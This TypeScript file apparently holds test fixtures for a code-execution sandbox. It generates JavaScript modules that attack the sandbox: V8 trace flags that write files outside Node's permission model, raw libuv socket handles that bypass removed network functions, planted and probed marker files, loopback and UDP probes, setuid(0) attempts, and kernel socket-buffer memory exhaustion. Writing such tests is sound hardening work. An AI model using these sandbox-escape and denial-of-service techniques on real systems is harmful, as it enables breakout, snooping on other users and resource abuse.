/** The attacks' sources, generated with the paths and ports a test knows only while it runs. */
const MB = 1024 * 1024;
// ---------------------------------------------------------------------------------------------
// The attacks.
// ---------------------------------------------------------------------------------------------

/** 1. Flags that make V8 itself write files, outside Node's permission model; then TurboFan work. */
export function v8FlagsSource(dir: string): string {
  return `
import * as v8Namespace from 'node:v8';
import v8Default from 'node:v8';
import { createRequire } from 'node:module';
export const DIR = ${JSON.stringify(dir)};
export const FLAGS = [
  '--trace-turbo-cfg-file=' + DIR + '/cfg.txt',
  '--trace-turbo',
  '--trace-turbo-path=' + DIR,
  '--trace-turbo-graph',
  '--redirect-code-traces',
  '--redirect-code-traces-to=' + DIR + '/code-trace.txt',
];
const routes = [
  () => v8Default.setFlagsFromString,
  () => v8Namespace.setFlagsFromString,
  () => createRequire(import.meta.url)('node:v8').setFlagsFromString,
  () => process.binding('v8').setFlagsFromString,
];
for (const route of routes) {
  for (const flag of FLAGS) {
    try {
      route()(flag);
    } catch {
      // refused: try the next
    }
  }
}
export function hot(x) {
  let s = 0;
  for (let i = 0; i < 2000; i++) s = (s + ((x * i) ^ (s >>> 3))) % 1000003;
  return s;
}
export function spin(ms) {
  let t = 0;
  const end = Date.now() + ms;
  while (Date.now() < end) t = (t + hot(t & 1023)) % 1000003;
  return t;
}
spin(400);
export function add(a, b) {
  spin(30);
  return a + b;
}
`;
}

/**
 * Shared by the network attacks: every way to listen and connect, for when the harness removes
 * `listen`, `connect` and `send` in JavaScript. Node's internal alias of `listen` (`_listen2`), and
 * raw libuv handles, whose constructors hang off handles the process already has (its stdin is a
 * pipe) or can make; another handle object serves as the request a raw `connect` needs.
 */
export const NET_ROUTES = `
export const RAW = {};
try {
  RAW.Pipe = (process.stdin._handle || process.stdout._handle).constructor;
} catch {}
try {
  const probe = net.createServer();
  probe._listen2('127.0.0.1', 0, 4, 511);
  RAW.TCP = probe._handle.constructor;
  probe.close();
} catch {}
const rawHandles = [];
/** Listens on a path (a socket file, or an abstract name) or { port, host }; true when it does. */
export function listenOn(server, where) {
  try {
    server.listen(where);
    return true;
  } catch {}
  try {
    if (typeof where === 'string') server._listen2(where, -1, -1, 511);
    else server._listen2(where.host, where.port, where.host.includes(':') ? 6 : 4, 511);
    if (server._handle) return true;
  } catch {}
  try {
    if (typeof where !== 'string') return false;
    const pipe = new RAW.Pipe(1);
    rawHandles.push(pipe);
    return pipe.bind(where) === 0 && pipe.listen(511) === 0;
  } catch {
    return false;
  }
}
/** Connects without net.Socket#connect: 'connected' (and the handle), or what went wrong. */
export function rawConnect(where, ms) {
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve({ code: 'timeout' }), ms);
    const done = (result) => {
      clearTimeout(timer);
      resolve(result);
    };
    try {
      const Handle = typeof where === 'string' ? RAW.Pipe : RAW.TCP;
      const handle = new Handle(0);
      const request = new Handle(0);
      rawHandles.push(handle, request);
      request.oncomplete = (status) => done(status === 0 ? { code: 'connected', handle } : { code: 'errno' + status });
      const error =
        typeof where === 'string'
          ? handle.connect(request, where)
          : where.host.includes(':')
            ? handle.connect6(request, where.host, where.port)
            : handle.connect(request, where.host, where.port);
      if (error) done({ code: 'errno' + error });
    } catch {
      done({ code: 'threw' });
    }
  });
}
/** Connects by any route: net.connect first, then a raw handle. Resolves with a code. */
export function connectAny(where, ms) {
  return new Promise((resolve) => {
    let socket;
    const timer = setTimeout(() => finish('timeout'), ms);
    function finish(code) {
      clearTimeout(timer);
      try {
        socket && socket.destroy();
      } catch {}
      resolve(code);
    }
    try {
      socket = net.connect(where, () => {
        socket.write('hello from the sandbox');
        setTimeout(() => finish('connected'), 20);
      });
      socket.on('error', (error) => finish(String(error.code)));
    } catch {
      clearTimeout(timer);
      rawConnect(where, ms).then((result) => resolve(result.code));
    }
  });
}
/** Sends one datagram by any route: dgram's send, then the socket's raw UDP handle. */
export function sendAny(type, host, port) {
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve('timeout'), 400);
    const done = (code) => {
      clearTimeout(timer);
      resolve(code);
    };
    let socket;
    try {
      socket = dgram.createSocket(type);
      socket.on('error', (error) => done(String(error.code)));
      socket.send('hello from the sandbox', port, host, (error) => done(error ? String(error.code) : 'sent'));
      return;
    } catch {}
    try {
      const state = Object.getOwnPropertySymbols(socket).map((key) => socket[key]).find((value) => value && value.handle);
      const handle = state.handle;
      handle.bind(type === 'udp6' ? '::' : '0.0.0.0', 0, 0);
      const request = new handle.constructor();
      request.oncomplete = () => undefined;
      rawHandles.push(handle, request);
      const sent = handle.send(request, [Buffer.from('hello from the sandbox')], 1, port, host, false);
      done(typeof sent === 'number' && sent >= 0 ? 'sent' : 'errno' + sent);
    } catch {
      done('threw');
    }
  });
}
`;

/** 2. A listening Unix socket leaves a file behind, and Node's permission model does not cover sockets. */
export function plantSocketSource(paths: string[]): string {
  return `
import net from 'node:net';
import dgram from 'node:dgram';
${NET_ROUTES}
export const PATHS = ${JSON.stringify(paths)};
const keep = [];
for (const path of PATHS) {
  // Each route on its own, so that one refused does not hide another.
  for (const route of ['listen', '_listen2', 'raw']) {
    try {
      const server = net.createServer();
      server.on('error', () => undefined);
      keep.push(server);
      if (route === 'listen') server.listen(path);
      else if (route === '_listen2') server._listen2(path, -1, -1, 511);
      else {
        const pipe = new RAW.Pipe(1);
        keep.push(pipe);
        pipe.bind(path);
        pipe.listen(511);
      }
    } catch {
      // refused
    }
  }
}
await new Promise((resolve) => setTimeout(resolve, 200));
export function add(a, b) {
  return a + b;
}
`;
}

export interface Markers {
  tmpFile: string;
  tmpDir: string;
  tmpSock: string;
  hostFile: string;
  hostSock: string;
  relSock: string;
  abstract: string;
  port: number;
}

/** 3a. Leaves markers for a later (or concurrent) solution to find; `holdMs` keeps each case busy. */
export function plantMarkersSource(markers: Markers, holdMs: number): string {
  return `
import fs from 'node:fs';
import net from 'node:net';
import dgram from 'node:dgram';
${NET_ROUTES}
export const M = ${JSON.stringify(markers)};
const keep = [];
const attempt = (f) => {
  try {
    f();
  } catch {
    // refused
  }
};
attempt(() => fs.writeFileSync(M.tmpFile, 'marker'));
attempt(() => fs.mkdirSync(M.tmpDir));
attempt(() => fs.writeFileSync(M.hostFile, 'marker'));
for (const where of [M.tmpSock, M.hostSock, M.relSock, M.abstract, { port: M.port, host: '127.0.0.1' }]) {
  attempt(() => {
    const server = net.createServer((socket) => socket.destroy());
    server.on('error', () => undefined);
    keep.push(server);
    listenOn(server, where);
  });
}
await new Promise((resolve) => setTimeout(resolve, 150));
const hold = new Int32Array(new SharedArrayBuffer(4));
export function add(a, b) {
  if (${holdMs} > 0) Atomics.wait(hold, 0, 0, ${holdMs});
  return a + b;
}
`;
}

/**
 * 3b. Looks for the markers, and for host files it should not see, with every existence test at hand:
 * existsSync, realpathSync (Node's JavaScript version walks paths with lstat the permission model does
 * not check; the harness may swap in the native one), its native version, stat, lstat, access, the
 * module resolvers (require.resolve, and the error codes of require and import), and connecting to
 * sockets. An answer or error code that differs from that for a path next to it that never existed
 * also counts as found. It throws on every call with a message saying what it found, which an
 * example case shows.
 */
export function probeSource(files: Record<string, string>, sockets: Record<string, string>, port: number): string {
  return `
import fs from 'node:fs';
import net from 'node:net';
import dgram from 'node:dgram';
import { createRequire } from 'node:module';
${NET_ROUTES}
export const FILES = ${JSON.stringify(files)};
export const SOCKETS = ${JSON.stringify(sockets)};
export const PORT = ${port};
const require = createRequire(import.meta.url);
export async function codeOf(f) {
  try {
    await f();
    return 'ok';
  } catch (error) {
    return String(error && error.code);
  }
}
export async function look(path) {
  const tests = [
    () => {
      if (!fs.existsSync(path)) throw Object.assign(new Error('no'), { code: 'FALSE' });
    },
    () => fs.realpathSync(path),
    () => fs.realpathSync.native(path),
    () => fs.promises.realpath(path),
    () => fs.statSync(path),
    () => fs.lstatSync(path),
    () => fs.accessSync(path),
    () => require.resolve(path),
    () => require(path),
    () => import('file://' + (path.startsWith('/') ? path : process.cwd() + '/' + path)),
  ];
  const codes = [];
  for (const test of tests) codes.push(await codeOf(test));
  return codes;
}
export async function fileResult(path) {
  const seen = await look(path);
  const control = await look(path + '-never-made');
  return seen.some((code, i) => code === 'ok' || code !== control[i]) ? 'found' : 'absent';
}
export async function socketResult(path) {
  const [seen, control] = await Promise.all([connectAny(path, 300), connectAny(path + '-never-made', 300)]);
  const [rawSeen, rawControl] = await Promise.all([rawConnect(path, 300), rawConnect(path + '-never-made', 300)]);
  return seen === 'connected' || rawSeen.code === 'connected' || seen !== control || rawSeen.code !== rawControl.code ? 'found' : 'absent';
}
const results = [];
for (const [label, path] of Object.entries(FILES)) results.push(label + '=' + (await fileResult(path)));
for (const [label, path] of Object.entries(SOCKETS)) results.push(label + '=' + (await socketResult(path)));
const where = { port: PORT, host: '127.0.0.1' };
const tcp = (await connectAny(where, 300)) === 'connected' || (await rawConnect(where, 300)).code === 'connected';
results.push('tcp=' + (tcp ? 'found' : 'absent'));
const report = 'probe: ' + results.join(' ');
export function add(a, b) {
  throw new Error(report);
}
`;
}

/** 4. Reaching the host over loopback: TCP, Unix and abstract sockets, UDP, and a DNS lookup. */
export function loopbackSource(target: { port: number; udpPort: number; unixPath: string; abstract: string }): string {
  return `
import net from 'node:net';
import dgram from 'node:dgram';
import dns from 'node:dns';
${NET_ROUTES}
export const T = ${JSON.stringify(target)};
export function lookup(name) {
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve([]), 400);
    try {
      dns.lookup(name, { all: true }, (error, addresses) => {
        clearTimeout(timer);
        resolve(error ? [] : addresses.map((a) => a.address));
      });
    } catch {
      clearTimeout(timer);
      resolve([]);
    }
  });
}
const resolved = await lookup('localhost');
const hosts = [...new Set(['127.0.0.1', '::1', '0.0.0.0', ...resolved])];
await Promise.all([
  connectAny({ port: T.port, host: 'localhost' }, 400),
  ...hosts.map((host) => connectAny({ port: T.port, host }, 400)),
  ...hosts.map((host) => rawConnect({ port: T.port, host }, 400)),
  connectAny(T.unixPath, 400),
  rawConnect(T.unixPath, 400),
  connectAny(T.abstract, 400),
  rawConnect(T.abstract, 400),
  sendAny('udp4', '127.0.0.1', T.udpPort),
  sendAny('udp4', '127.0.0.1', T.port),
  sendAny('udp6', '::1', T.udpPort),
  ...resolved.map((address) => sendAny(address.includes(':') ? 'udp6' : 'udp4', address, T.udpPort)),
]);
export function add(a, b) {
  return a + b;
}
`;
}

/** 5. Changing user or group ids: a+b only when every attempt threw and no id changed. */
export const SETUID_SOURCE = `
const ids = () => [process.getuid(), process.geteuid(), process.getgid(), process.getegid()].join(',');
export function attempts() {
  const before = ids();
  const tries = [
    () => process.setuid(0),
    () => process.setuid(1000),
    () => process.seteuid(0),
    () => process.seteuid(1000),
    () => process.setgid(0),
    () => process.setegid(0),
    () => process.setgroups([0]),
    () => process.initgroups('root', 0),
    () => process.binding('credentials').setuid(0),
  ];
  let refused = 0;
  for (const attempt of tries) {
    try {
      attempt();
    } catch {
      refused++;
    }
  }
  return refused === tries.length && ids() === before;
}
const refusedAtLoad = attempts();
export function add(a, b) {
  return refusedAtLoad && attempts() ? a + b : a + b + 1;
}
`;

/** The kernel memory attack aims at this much; the add problem allows 256 MB. */
export const SOCKET_MEMORY_TARGET = 500 * MB;

/**
 * 6. Memory the kernel holds for sockets is not the process's resident memory. Unix socket pairs
 * (through a server on a path in the sandbox's /tmp) and TCP pairs on the sandbox's own loopback,
 * by any route that works, streamed for a while so that TCP grows its buffers, then filled without
 * reading, for about 3 s in all. The same 64 KiB buffer is written again and again, so the process's
 * own memory stays small.
 */
export const SOCKET_MEMORY_SOURCE = `
import net from 'node:net';
import dgram from 'node:dgram';
import os from 'node:os';
${NET_ROUTES}
export const TARGET = ${SOCKET_MEMORY_TARGET};
const deadline = Date.now() + 3000;
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const sockets = [];
let fillFrom = 0;
const written = () => sockets.reduce((sum, s) => sum + s.bytesWritten - s.writableLength, 0);
export function serve(where) {
  const server = net.createServer((socket) => {
    socket.on('error', () => undefined);
    socket.on('data', () => undefined);
    sockets.push(socket);
  });
  server.on('error', () => undefined);
  return listenOn(server, where) && server._handle ? server : null;
}
export const UNIX_PATH = os.tmpdir() + '/kata-fill.sock';
const unix = serve(UNIX_PATH);
const tcp = serve({ port: 0, host: '127.0.0.1' });
await sleep(20);
export function adopt(socket) {
  socket.on('error', () => undefined);
  socket.on('data', () => undefined);
  sockets.push(socket);
  return true;
}
export function connect(i) {
  const where = i % 4 === 0 && unix ? UNIX_PATH : tcp ? { port: tcp.address().port, host: '127.0.0.1' } : null;
  if (where === null) return Promise.resolve(false);
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve(false), 300);
    try {
      const socket = net.connect(where, () => {
        clearTimeout(timer);
        resolve(adopt(socket));
      });
      socket.on('error', () => {
        clearTimeout(timer);
        resolve(false);
      });
    } catch {
      rawConnect(where, 300).then((result) => {
        clearTimeout(timer);
        resolve(result.code === 'connected' && adopt(new net.Socket({ handle: result.handle, readable: true, writable: true })));
      });
    }
  });
}
const connectUntil = Date.now() + 600;
for (let i = 0; i < 1000 && Date.now() < connectUntil; i++) {
  let ok = false;
  try {
    ok = await connect(i);
  } catch {}
  if (!ok) break;
}
await sleep(20);
const chunk = Buffer.alloc(64 * 1024, 7);
// Streaming with reads lets TCP grow its buffers; then nothing is read any more.
for (const until = Date.now() + 700; Date.now() < until; await sleep(0)) {
  for (const socket of sockets) if (!socket.destroyed && socket.writableLength < chunk.length) socket.write(chunk);
}
for (const socket of sockets) {
  socket.pause();
  socket.removeAllListeners('data');
}
fillFrom = written();
export async function fill(ms) {
  for (const until = Math.min(deadline, Date.now() + ms); Date.now() < until && written() - fillFrom < TARGET; await sleep(5)) {
    for (const socket of sockets) {
      for (let n = 0; n < 64 && !socket.destroyed && socket.writableLength === 0; n++) socket.write(chunk);
    }
  }
}
await fill(500);
export async function add(a, b) {
  await fill(150);
  return a + b;
}
`;

// ---------------------------------------------------------------------------------------------

